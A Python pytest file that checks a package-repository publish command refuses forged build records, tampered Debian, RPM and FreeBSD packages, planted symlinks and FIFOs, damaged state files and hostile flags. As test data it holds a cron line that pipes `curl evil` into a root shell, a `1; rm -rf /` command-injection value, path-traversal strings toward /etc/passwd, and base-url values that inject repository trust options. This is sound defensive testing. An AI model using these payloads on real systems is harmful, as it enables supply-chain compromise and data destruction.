"""`repo publish` handed hostile input, as a compromised build job would hand
it: forged records, packages that are not what their record says (or that
say things their recipe never makes, with the record forged to match),
planted links, special files, damaged state, hostile flags.

Every case must be refused with one line naming the problem and a non-zero
exit, and leave the repository tree and every file outside it byte for byte
as they were; the legitimate variants of the same inputs must work.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from builder.cli import main
from builder.formats.pkgfile import read_pkg
from builder.package import PACKAGERS
from builder.record import BuildRecord, facts_to_json

from .conftest import artifact_of


# -- building blocks -------------------------------------------------------------------
def snapshot(*roots: Path) -> dict[str, tuple]:
    """Every path below the roots with its kind and content (links by target)."""
    found: dict[str, tuple] = {}
    for root in roots:
        if not os.path.lexists(root):
            found[str(root)] = ("absent",)
            continue
        for path in [root, *sorted(root.rglob("*"))]:
            info = path.lstat()
            if path.is_symlink():
                found[str(path)] = ("link", os.readlink(path))
            elif path.is_dir():
                found[str(path)] = ("dir", info.st_mode)
            elif path.is_file():
                found[str(path)] = ("file", info.st_mode, path.read_bytes())
            else:
                found[str(path)] = ("special", info.st_mode)
    return found


def ar_members(data: bytes) -> list[tuple[str, bytes]]:
    members, offset = [], 8
    while offset < len(data):
        header = data[offset:offset + 60]
        size = int(header[48:58])
        members.append((header[:16].decode().strip().rstrip("/"), data[offset + 60:offset + 60 + size]))
        offset += 60 + size + (size & 1)
    return members


def ar_pack(members: list[tuple[str, bytes]]) -> bytes:
    out = b"!<arch>\n"
    for name, data in members:
        out += f"{name:<16}{0:<12}{0:<6}{0:<6}{100644:<8}{len(data):<10}`\n".encode() + data
        if len(data) & 1:
            out += b"\n"
    return out


def _untar(name: str, payload: bytes) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    mode = "r:xz" if name.endswith(".xz") else "r:gz" if name.endswith(".gz") else "r:"
    with tarfile.open(fileobj=io.BytesIO(payload), mode=mode) as tar:
        return [(m, tar.extractfile(m).read() if m.isreg() else None) for m in tar.getmembers()]


def _tar_gz(entries: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return gzip.compress(raw.getvalue(), mtime=0)


def forge_deb(data: bytes, control=None, add: tuple[str, bytes] | None = None) -> bytes:
    """The .deb with its control file edited and/or a file added to its data."""
    members = ar_members(data)
    out = [members[0]]
    for name, payload in members[1:]:
        entries = _untar(name, payload)
        if name.startswith("control.tar") and control is not None:
            entries = [(info, control(content.decode()).encode()) if info.name.endswith("control") else (info, content)
                       for info, content in entries]
            for info, content in entries:
                if content is not None:
                    info.size = len(content)
        if name.startswith("data.tar") and add is not None:
            info = tarfile.TarInfo(f".{add[0]}")
            info.size, info.mode, info.uname, info.gname = len(add[1]), 0o644, "root", "root"
            entries.append((info, add[1]))
        out.append((name.split(".tar")[0] + ".tar.gz", _tar_gz(entries)))
    return ar_pack(out)


def reforge_record(folder: Path, file: str) -> None:
    """What an attacker who controls the build job does next: make the
    record agree with the forged package (digest, size, facts)."""
    record_path = next(folder.glob("*.build.json"))
    data = json.loads(record_path.read_text())
    path = folder / file
    row = next(row for row in data["artifacts"] if row["file"] == file)
    packager = PACKAGERS[row["format"]]
    facts = packager.read(path, path.read_bytes())
    row.update(sha256=hashlib.sha256(path.read_bytes()).hexdigest(), size=path.stat().st_size,
               facts=facts_to_json(facts), version=facts.version)
    record_path.write_text(json.dumps(data))


def edit_record(folder: Path, change) -> None:
    record_path = next(folder.glob("*.build.json"))
    data = json.loads(record_path.read_text())
    change(data)
    record_path.write_text(json.dumps(data))


# -- the scene: a repository published once, then a hostile second publish ---------------
@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    home = tmp_path_factory.mktemp("gnupg")
    home.chmod(0o700)
    env = {**os.environ, "GNUPGHOME": str(home)}
    subprocess.run(["gpg", "--batch", "--quiet", "--passphrase", "", "--quick-gen-key",
                    "qmail-pkg test <test@qmail-pkg.invalid>", "rsa3072", "sign", "1d"], env=env, check=True,
                   capture_output=True)
    secret = home / "secret.asc"
    subprocess.run(["gpg", "--batch", "--armor", "--export-secret-keys"], env=env, check=True, stdout=secret.open("wb"))
    pkg_key = home / "pkg.pem"
    subprocess.run(["openssl", "genrsa", "-out", str(pkg_key), "2048"], check=True, capture_output=True)
    return secret, pkg_key


@pytest.fixture(scope="module")
def legit(built, built_rpm, built_pkg, tmp_path_factory):
    """The three formats' artifacts, as `build --out` writes them."""
    folder = tmp_path_factory.mktemp("legit")
    for result in (built, built_rpm, built_pkg):
        target = folder / result.record_path.parent.name
        target.mkdir()
        for path in result.record_path.parent.iterdir():
            if path.is_file():
                shutil.copy(path, target / path.name)
    return folder


class Scene:
    def __init__(self, tmp_path: Path, legit: Path, keys, miniature):
        self.root = tmp_path
        self.artifacts = tmp_path / "dist"
        shutil.copytree(legit, self.artifacts)
        self.repo = tmp_path / "repo"
        self.outside = tmp_path / "outside"
        self.outside.mkdir()
        (self.outside / "victim").write_text("the administrator's file\n")
        self.secret, self.pkg_key = keys
        self.recipe = miniature[0]
        self.deb = next(self.artifacts.glob("debian-12/*.deb"))
        self.rpm = next(self.artifacts.glob("el-9/*.rpm"))
        self.pkg = next(self.artifacts.glob("freebsd-14/*.pkg"))

    def argv(self, *extra: str, artifacts: Path | None = None) -> list[str]:
        return ["repo", "publish", str(artifacts or self.artifacts), "--repo", str(self.repo), "--recipe",
                str(self.recipe), "--key", str(self.secret), "--pkg-key", str(self.pkg_key),
                *extra]

    def publish(self, capsys, *extra: str) -> tuple[int, str]:
        code = main(self.argv(*extra))
        captured = capsys.readouterr()
        return code, captured.err


@pytest.fixture
def scene(tmp_path, legit, keys, miniature, capsys):
    scene = Scene(tmp_path, legit, keys, miniature)
    code, err = scene.publish(capsys)  # the repository as it stands before the attack
    assert code == 0, err
    return scene


def refused(scene: Scene, capsys, expected: str, *extra: str) -> None:
    before = snapshot(scene.repo, scene.outside)
    code, err = scene.publish(capsys, *extra)
    lines = err.strip().splitlines()
    assert code != 0 and code != 70, err
    assert len(lines) == 1 and "Traceback" not in err and "internal error" not in err, err
    assert expected in lines[0], lines[0]
    assert snapshot(scene.repo, scene.outside) == before, "a refused publish changed the tree or a file outside it"


# -- forged records ------------------------------------------------------------------------
def _row(data, suffix):
    return next(row for row in data["artifacts"] if row["file"].endswith(suffix))


RECORD_CASES = {
    "file-dot-dot": ("debian-12", lambda d: _row(d, ".deb").update(file="../../outside/victim"),
                     "artifacts[0].file: '../../outside/victim' is not a valid value here"),
    "file-absolute": ("debian-12", lambda d: _row(d, ".deb").update(file="/etc/passwd"),
                      "artifacts[0].file: '/etc/passwd' is not a valid value here"),
    "file-missing": ("debian-12", lambda d: _row(d, ".deb").pop("file"), "artifacts[0].file: missing"),
    "package-dot-dot": ("debian-12", lambda d: d.update(package="../../outside"), "package: '../../outside' is not"),
    "suite-dot-dot": ("debian-12", lambda d: d.update(suite="../../../outside"), "suite: '../../../outside' is not"),
    "target-dot-dot": ("debian-12", lambda d: d.update(target=".."), "target: '..' is not a valid value here"),
    "target-other-folder": ("debian-12", lambda d: d.update(target="debian-13"),
                            "the record is for target 'debian-13' but lies in debian-12/"),
    "architecture-slash": ("debian-12", lambda d: d.update(architecture="amd64/../../x"),
                           "architecture: 'amd64/../../x' is not a valid value here"),
    "revision-not-a-number": ("debian-12", lambda d: d.update(revision="1; rm -rf /"),
                              "revision: must be a whole number from 0 to 999999"),
    "revision-float": ("debian-12", lambda d: d.update(revision=1.5), "revision: must be a whole number"),
    "size-a-string": ("debian-12", lambda d: _row(d, ".deb").update(size="big"), "artifacts[0].size: must be a whole"),
    "sha256-short": ("debian-12", lambda d: _row(d, ".deb").update(sha256="abc"), "artifacts[0].sha256: 'abc' is not"),
    "artifacts-not-a-list": ("debian-12", lambda d: d.update(artifacts={"file": "x"}), "artifacts: must be a list"),
    "artifacts-empty": ("debian-12", lambda d: d.update(artifacts=[]), "artifacts: the record names no artifact"),
    "same-file-twice": ("debian-12", lambda d: d["artifacts"].append(dict(d["artifacts"][0])),
                        "artifacts: the same file is named twice"),
    "manifest-entry-kind": ("debian-12", lambda d: d["staged_manifest"][0].update(type="device"),
                            "staged_manifest[0].type: must be one of file, dir, symlink, fifo"),
    "newer-schema": ("debian-12", lambda d: d.update(schema=99), "schema: version 99 is newer than this tool reads"),
    "variant": ("debian-12", lambda d: d.update(variant={"syncdir": False}),
                "a variant build (without syncdir) is never published"),
    "other-recipe": ("debian-12", lambda d: d["recipe"].update(sha256="0" * 64), "built from another recipe"),
    "overridden-sources": ("debian-12", lambda d: d.update(overridden_sources=["qmail"]),
                           "built from locally overridden sources (--source)"),
    "release-other": ("debian-12", lambda d: d.update(release="13"), "release '13' is not the recipe's '12'"),
    "family-other": ("debian-12", lambda d: d.update(family="rhel"), "family 'rhel' is not the recipe's 'debian'"),
    "version-other": ("debian-12", lambda d: d.update(version="9.99-1"), "version '9.99-1' is not the recipe's"),
    "test-only": ("el-9", lambda d: d.update(test_only=True), "a test-only build (made by an older qmail-pkg"),
    "method-unknown": ("debian-12", lambda d: d.update(method="magic"), "method: 'magic' is not a valid value here"),
    "facts-missing": ("debian-12", lambda d: _row(d, ".deb").pop("facts"), "its record holds no facts"),
    "sha256-of-another-file": ("debian-12", lambda d: _row(d, ".deb").update(sha256="ab" * 32),
                               "its bytes are not the ones the build recorded"),
}


@pytest.mark.parametrize("name", sorted(RECORD_CASES))
def test_a_forged_record_is_refused(scene, capsys, name):
    folder, change, expected = RECORD_CASES[name]
    edit_record(scene.artifacts / folder, change)
    refused(scene, capsys, expected)


RAW_RECORDS = {
    "not-json": (b"{not json", "not a build record (not JSON"),
    "duplicate-key": (b'{"schema": 2, "schema": 2}', "duplicate key 'schema'"),
    "nan": (b'{"revision": NaN}', "NaN is not a number a record holds"),
    "a-list": (b"[1, 2]", "(record): must be a mapping"),
    "deeply-nested": (b"[" * 100000 + b"]" * 100000, "nested too deeply"),
    "binary": (bytes(range(256)), "not a build record"),
}


@pytest.mark.parametrize("name", sorted(RAW_RECORDS))
def test_a_record_that_is_not_a_record_is_refused(scene, capsys, name):
    data, expected = RAW_RECORDS[name]
    next((scene.artifacts / "debian-12").glob("*.build.json")).write_bytes(data)
    refused(scene, capsys, expected)


def test_a_record_that_is_a_fifo_or_a_device_never_hangs(scene, capsys):
    record = next((scene.artifacts / "debian-12").glob("*.build.json"))
    record.unlink()
    os.mkfifo(record)
    refused(scene, capsys, "not a regular file; refused")
    record.unlink()
    record.symlink_to("/dev/zero")
    refused(scene, capsys, "not a regular file; refused")


def test_a_huge_record_is_refused_unread(scene, capsys):
    record = next((scene.artifacts / "debian-12").glob("*.build.json"))
    with record.open("ab") as handle:
        handle.truncate(20 << 20)
    refused(scene, capsys, "more than the 16777216 a file of this kind may have")


# -- packages that are not what their record says --------------------------------------
def test_a_package_that_is_a_link_out_is_refused(scene, capsys):
    shutil.copy(scene.deb, scene.outside / "copied.deb")
    scene.deb.unlink()
    scene.deb.symlink_to(scene.outside / "copied.deb")
    refused(scene, capsys, "a symlink, which is never followed here")


def test_a_package_that_is_a_fifo_is_refused(scene, capsys):
    scene.deb.unlink()
    os.mkfifo(scene.deb)
    refused(scene, capsys, "a FIFO, not a regular file")


def test_a_folder_of_records_that_is_a_link_is_refused(scene, capsys):
    shutil.move(scene.artifacts / "debian-12", scene.outside / "debian-12")
    (scene.artifacts / "debian-12").symlink_to(scene.outside / "debian-12")
    refused(scene, capsys, "a symlink where a folder of build records would be; refused")


def test_a_package_with_one_byte_changed_is_refused(scene, capsys):
    data = bytearray(scene.deb.read_bytes())
    data[3000] ^= 1
    scene.deb.write_bytes(bytes(data))
    refused(scene, capsys, "its bytes are not the ones the build recorded")


def test_a_package_swapped_for_another_build_is_refused(scene, capsys, built_next):
    shutil.copy(artifact_of(built_next, "deb"), scene.deb)
    refused(scene, capsys, "its bytes are not the ones the build recorded")


DEB_FORGERIES = {
    "name-openssh-server": (lambda c: c.replace("Package: qmail-syncdir", "Package: openssh-server"), None,
                            "name is 'openssh-server', the recipe makes 'qmail-syncdir'"),
    "version-epoch-99": (lambda c: c.replace("Version: 1.03-1+deb12", "Version: 1:99.0"), None,
                         "'1:99.0' is not a valid value here"),  # no epoch: the record refuses it first
    "architecture-all": (lambda c: c.replace("Architecture: amd64", "Architecture: all"), None,
                         "architecture is 'all', the recipe makes 'amd64'"),
    "essential-yes": (lambda c: c.replace("Section: mail", "Essential: yes\nSection: mail"), None,
                      "metadata field 'Essential' is one this tool never writes"),
    "protected-yes": (lambda c: c.replace("Section: mail", "Protected: yes\nSection: mail"), None,
                      "metadata field 'Protected' is one this tool never writes"),
    "depends-added": (lambda c: c.replace("Depends: libc6", "Depends: openssh-server, libc6"), None,
                      "relation 'Depends' is 'libc6 (>= 2.34), openssh-server'"),
    "breaks-added": (lambda c: c.replace("Section: mail", "Breaks: openssh-server\nSection: mail"), None,
                     "relation 'Breaks' is 'openssh-server'"),
    "cron-file-added": (None, ("/etc/cron.d/evil", b"* * * * * root curl evil | sh\n"),
                        "/etc/cron.d/evil: carried by the package, not staged by the build"),
    "queue-file-added": (None, ("/var/qmail/queue/todo/1", b"x"), "below /var/qmail/queue, which is state"),
}


@pytest.mark.parametrize("name", sorted(DEB_FORGERIES))
def test_a_forged_deb_is_refused_even_with_its_record_forged_to_match(scene, capsys, name):
    control, add, expected = DEB_FORGERIES[name]
    original = scene.deb.read_bytes()
    scene.deb.write_bytes(forge_deb(original, control, add))
    # as handed over: the package no longer matches its record
    refused(scene, capsys, "its bytes are not the ones the build recorded")
    # the record forged to match the package: the recipe still refuses it
    reforge_record(scene.deb.parent, scene.deb.name)
    refused(scene, capsys, expected)


@pytest.mark.parametrize("abi, expected", [
    ("../../../outside", "'../../../outside' is not a valid value here"),
    ("FreeBSD:99:amd64", "architecture is 'FreeBSD:99:amd64', the recipe makes 'FreeBSD:14:amd64'"),
])
def test_a_forged_pkg_manifest_abi_is_refused(scene, capsys, abi, expected):
    archive = read_pkg(scene.pkg)
    compact = dict(archive.compact, abi=abi)
    full = dict(archive.full, abi=abi)
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for member in archive.members:
            if member.name in ("+COMPACT_MANIFEST", "+MANIFEST"):
                data = json.dumps(compact if member.name == "+COMPACT_MANIFEST" else full).encode()
            else:
                data = archive.contents.get(member.name)
            info = tarfile.TarInfo(member.name)
            info.type, info.mode, info.uname, info.gname = member.type, member.mode, member.uname, member.gname
            info.linkname = member.linkname
            info.size = len(data or b"")
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    import zstandard

    scene.pkg.write_bytes(zstandard.ZstdCompressor().compress(raw.getvalue()))
    reforge_record(scene.pkg.parent, scene.pkg.name)
    refused(scene, capsys, expected)


def test_an_rpm_of_another_revision_is_refused_even_with_its_record_forged(scene, capsys, built_rpm_next):
    shutil.copy(artifact_of(built_rpm_next, "rpm"), scene.rpm)
    reforge_record(scene.rpm.parent, scene.rpm.name)
    refused(scene, capsys, "version is '1.03-2.el9', the recipe makes '1.03-1.el9'")


def test_an_rpm_that_is_not_an_rpm_is_refused(scene, capsys):
    scene.rpm.write_bytes(b"\xed\xab\xee\xdb" + os.urandom(4000))
    reforge_record_bytes_only(scene.rpm)
    refused(scene, capsys, "rpm cannot read it")


def reforge_record_bytes_only(path: Path) -> None:
    edit_record(path.parent, lambda d: next(r for r in d["artifacts"] if r["file"] == path.name).update(
        sha256=hashlib.sha256(path.read_bytes()).hexdigest(), size=path.stat().st_size))


# -- the repository tree ----------------------------------------------------------------------
def test_a_pool_that_is_a_symlink_is_not_written_through(scene, capsys):
    shutil.move(scene.repo / "pool", scene.outside / "pool")
    (scene.repo / "pool").symlink_to(scene.outside / "pool")
    refused(scene, capsys, "pool: a symlink; this tree may hold only folders and regular files")


def test_a_fifo_in_the_tree_is_refused(scene, capsys):
    os.mkfifo(scene.repo / "dists" / "bookworm" / "Release.new")
    refused(scene, capsys, "a FIFO; this tree may hold only folders and regular files")


STATE_CASES = {
    "dot-dot-key": ({"pool/main/q/qmail-syncdir/../../../../outside/victim": "0" * 64},
                    "is not one this tool writes"),
    "absolute-key": ({"/etc/passwd": "0" * 64}, "'/etc/passwd' is not one this tool writes"),
    "value-not-a-digest": ({"pool/main/q/qmail-syncdir/x.deb": "../../etc"}, "is not one this tool writes"),
    "dists-pointing-out": ({"dists/bookworm/amd64/x.deb": "../../../outside/victim"}, "is not one this tool writes"),
    "not-a-mapping": (["pool"], "damaged (not a mapping)"),
}


@pytest.mark.parametrize("name", sorted(STATE_CASES))
def test_a_forged_state_file_is_refused_before_prune_acts(scene, capsys, name):
    forged, expected = STATE_CASES[name]
    state = scene.repo / ".qmail-pkg" / "published.json"
    data = json.loads(state.read_text())
    if isinstance(forged, dict):
        data.update(forged)
    else:
        data = forged
    state.write_text(json.dumps(data))
    refused(scene, capsys, expected, "--prune", "1")


def test_a_damaged_state_file_is_refused(scene, capsys):
    (scene.repo / ".qmail-pkg" / "published.json").write_text("{")
    refused(scene, capsys, "damaged")


# -- flags ------------------------------------------------------------------------------------------
FLAG_CASES = {
    "base-url-newline": (["--base-url", "https://repo.example.org/q\nTrusted: yes"], "not a URL"),
    "base-url-space-option": (["--base-url", "https://repo.example.org/q [trusted=yes]"], "not a URL"),
    "base-url-gpgcheck": (["--base-url", "https://repo.example.org/q\ngpgcheck=0"], "not a URL"),
    "base-url-quote": (['--base-url', 'https://repo.example.org/q",enabled:no'], "not a URL"),
    "base-url-scheme": (["--base-url", "javascript:alert(1)"], "must be an http://, https:// or file: URL"),
    "base-url-ftp": (["--base-url", "ftp://repo.example.org/q"], "must be an http://, https:// or file: URL"),
    "base-url-query": (["--base-url", "https://repo.example.org/q?x=1"], "without a query or fragment"),
    "base-url-credentials": (["--base-url", "https://user:secret@repo.example.org/q"], "holds credentials"),
    "base-url-no-host": (["--base-url", "https:///q"], "names no host"),
    "base-url-control": (["--base-url", "https://repo.example.org/\x1b[31m"], "not a URL"),
}


@pytest.mark.parametrize("name", sorted(FLAG_CASES))
def test_hostile_flags_are_refused(scene, capsys, name):
    extra, expected = FLAG_CASES[name]
    refused(scene, capsys, expected, *extra)


def test_a_key_that_is_an_option_is_refused(scene, capsys):
    before = snapshot(scene.repo, scene.outside)
    argv = scene.argv()
    argv[argv.index("--key") + 1] = "--with-colons"
    code = main([*argv[:argv.index("--key")], "--key=--with-colons", *argv[argv.index("--key") + 2:]])
    err = capsys.readouterr().err
    assert code == 1 and "--key '--with-colons': a key id or a key file, not an option" in err, err
    assert snapshot(scene.repo, scene.outside) == before


def test_a_pkg_key_that_is_a_fifo_never_hangs(scene, capsys):
    fifo = scene.outside / "key.pem"
    os.mkfifo(fifo)
    argv = scene.argv()
    argv[argv.index("--pkg-key") + 1] = str(fifo)
    before = snapshot(scene.repo, scene.outside)
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 1 and "a FIFO, not a regular file" in err, err
    assert snapshot(scene.repo, scene.outside) == before


def test_provenance_and_an_independent_rebuild_must_agree(scene, capsys, tmp_path):
    # the statement names the record's digests: accepted
    code, err = scene.publish(capsys, "--require-provenance")
    assert code == 0, err
    statement = next((scene.artifacts / "debian-12").glob("*.intoto.json"))
    data = json.loads(statement.read_text())
    data["subject"][0]["digest"]["sha256"] = "0" * 64
    statement.write_text(json.dumps(data))
    refused(scene, capsys, "names other artifacts or digests than the record", "--require-provenance")
    statement.unlink()
    refused(scene, capsys, "No such file or directory", "--require-provenance")
    # a rebuild whose bytes differ: nothing is signed
    rebuilt = tmp_path / "rebuilt"
    shutil.copytree(scene.artifacts, rebuilt)
    next(rebuilt.glob("debian-12/*.deb")).write_bytes(b"other")
    refused(scene, capsys, "the independent rebuild made other bytes", "--rebuilt", str(rebuilt))
    next(rebuilt.glob("debian-12/*.deb")).unlink()
    refused(scene, capsys, "no rebuild of debian-12/", "--rebuilt", str(rebuilt))
    shutil.rmtree(rebuilt)
    shutil.copytree(scene.artifacts, rebuilt)
    code, err = scene.publish(capsys, "--rebuilt", str(rebuilt))
    assert code == 0, err


def test_a_legitimate_republish_changes_nothing(scene, capsys):
    def published() -> dict:  # the packages and the record of them (indexes are signed anew)
        return {k: v for k, v in snapshot(scene.repo).items() if k.endswith((".deb", ".rpm", ".pkg", "published.json"))}

    before = published()
    code, err = scene.publish(capsys)
    assert code == 0, err
    assert published() == before and len(before) == 6  # three packages, two catalogues, the state
    record = BuildRecord.read(next((scene.artifacts / "debian-12").glob("*.build.json")))
    assert record.artifacts[0].facts is not None and record.artifacts[0].facts.name == "qmail-syncdir"
